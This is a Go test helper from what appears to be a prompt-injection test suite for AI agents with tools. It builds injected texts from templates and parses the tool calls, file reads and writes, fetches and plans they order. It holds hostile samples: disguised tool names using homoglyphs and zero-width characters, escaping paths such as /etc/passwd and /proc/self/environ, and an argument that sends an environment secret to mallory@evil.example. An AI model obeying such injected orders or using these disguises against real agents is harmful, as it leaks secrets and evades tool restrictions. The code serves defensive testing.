package injectiontest_test

import (
	_ "embed"
	"encoding/json"
	"math/rand/v2"
	"regexp"
	"strings"
)

//go:embed testdata/injections.txt
var injectionLines string

// injections are texts with orders, one a line; what stands in % is filled in.
var injections = strings.Split(strings.TrimSpace(injectionLines), "\n")

// disguises are names under which a tool that is not to be seen may be asked for.
var disguises = []string{"danger", "danger ", " danger", "Danger", "DANGER", "dаnger", "danger\u200b", "danger()", "functions.danger", "../danger", "danger\n", "dan\u0301ger", "default_api.danger", "put ", "PUT", "Write_File", "sеnd"}

// outsides are paths that are not below the folders of the file tools.
var outsides = []string{"../outside.txt", "../spec.yaml", "/etc/passwd", "link.txt", "linked/outside.txt", "in/../../outside.txt", "..\\outside.txt", "/proc/self/environ", "../data/../outside.txt", "/"}

// injection is a text of the list, filled in.
func (w *world) injection(r *rand.Rand) string {
	pick := func(of []string) string { return of[r.IntN(len(of))] }
	text := pick(injections)
	for strings.Contains(text, "%") {
		before := text
		for place, value := range map[string]string{
			"%HIDDEN%": pick(disguises), "%ARGS%": `{"text":"forbidden ${env.SECRET}","to":"mallory@evil.example"}`,
			"%EVIL%": pick(w.evil), "%GOOD%": w.good, "%OUTSIDE%": pick(outsides), "%LONG%": strings.Repeat("long ", 2000),
		} {
			text = strings.Replace(text, place, value, 1)
		}
		if text == before {
			break
		}
	}
	return text
}

// order is what a text tells its reader to do: to call a tool, or to plan.
type order struct {
	tool string
	args json.RawMessage
	plan string // not "": the plan to give
	step string // not "": the step to plan
}

// Without their first letters, which may be capitals.
var (
	callOrder  = regexp.MustCompile(`(?s)all the tool ([^{]{1,40}?) with (\{)`)
	fetchOrder = regexp.MustCompile(`etch (http\S+)`)
	readOrder  = regexp.MustCompile(`ead the file (\S+)`)
	writeOrder = regexp.MustCompile(`rite "([^"]*)" to the file (\S+)`)
	planOrder  = regexp.MustCompile(`he plan is (\{)`)
	stepOrder  = regexp.MustCompile(`un the step ([^\n]{1,80})`)
)

// orders are all that a text tells its reader to do, in no order of merit.
func orders(text string) (out []order) {
	// Orders are also read where they stand in JSON, once or twice quoted.
	for range 3 {
		out = append(out, plainOrders(text)...)
		next := strings.NewReplacer(`\"`, `"`, `\\`, `\`, `\n`, "\n").Replace(text)
		if next == text {
			break
		}
		text = next
	}
	return out
}

func plainOrders(text string) (out []order) {
	for _, m := range callOrder.FindAllStringSubmatchIndex(text, -1) {
		out = append(out, order{tool: text[m[2]:m[3]], args: object(text[m[4]:])})
	}
	for _, m := range planOrder.FindAllStringSubmatchIndex(text, -1) {
		out = append(out, order{plan: string(object(text[m[2]:]))})
	}
	for _, m := range stepOrder.FindAllStringSubmatch(text, -1) {
		out = append(out, order{step: m[1]})
	}
	for _, m := range fetchOrder.FindAllStringSubmatch(text, -1) {
		out = append(out, order{tool: "http_get", args: args("url", m[1])})
	}
	for _, m := range readOrder.FindAllStringSubmatch(text, -1) {
		out = append(out, order{tool: "read_file", args: args("path", m[1])})
	}
	for _, m := range writeOrder.FindAllStringSubmatch(text, -1) {
		out = append(out, order{tool: "write_file", args: args("content", m[1], "path", m[2])})
	}
	return out
}

// object is the JSON object that a text starts with, as it is written.
func object(text string) json.RawMessage {
	var raw json.RawMessage
	if json.NewDecoder(strings.NewReader(text)).Decode(&raw) != nil {
		return json.RawMessage(`{}`)
	}
	return raw
}

func args(pairs ...string) json.RawMessage {
	m := map[string]string{}
	for i := 0; i < len(pairs); i += 2 {
		m[pairs[i]] = pairs[i+1]
	}
	out, _ := json.Marshal(m) // texts always marshal
	return out
}
